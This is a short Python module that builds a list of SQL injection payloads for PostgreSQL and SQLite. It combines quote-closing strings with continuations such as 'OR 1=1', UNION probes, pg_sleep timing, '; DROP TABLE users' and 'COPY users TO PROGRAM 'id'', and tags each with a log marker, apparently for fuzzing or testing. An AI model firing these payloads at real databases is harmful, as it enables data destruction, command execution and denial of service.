"""Texts that would end a literal and go on as SQL, on either database."""

import itertools

# In each of them, so that what became of it can be found in the database's log.
MARK = "zqx"
ENDS = ["'", "\"", "')", "\")", "", "\\'"]
GOES_ON = [" OR 1=1", " AND 1=2", " UNION SELECT NULL", " UNION SELECT NULL,NULL,NULL", "; DROP TABLE users", "; SELECT pg_sleep(4)",
           " OR pg_sleep(4) IS NULL", " || (SELECT sqlite_version())", " AND 1=CAST(version() AS int)", "; COPY users TO PROGRAM 'id'",
           "; ATTACH DATABASE 'zqx.db' AS zqx", " AND randomblob(900000000) IS NULL"]
LEAVES = ["-- ", "/*", ""]
PAYLOADS = [f"{MARK}{end}{more}{leave}" for end, more, leave in itertools.product(ENDS, GOES_ON, LEAVES)]
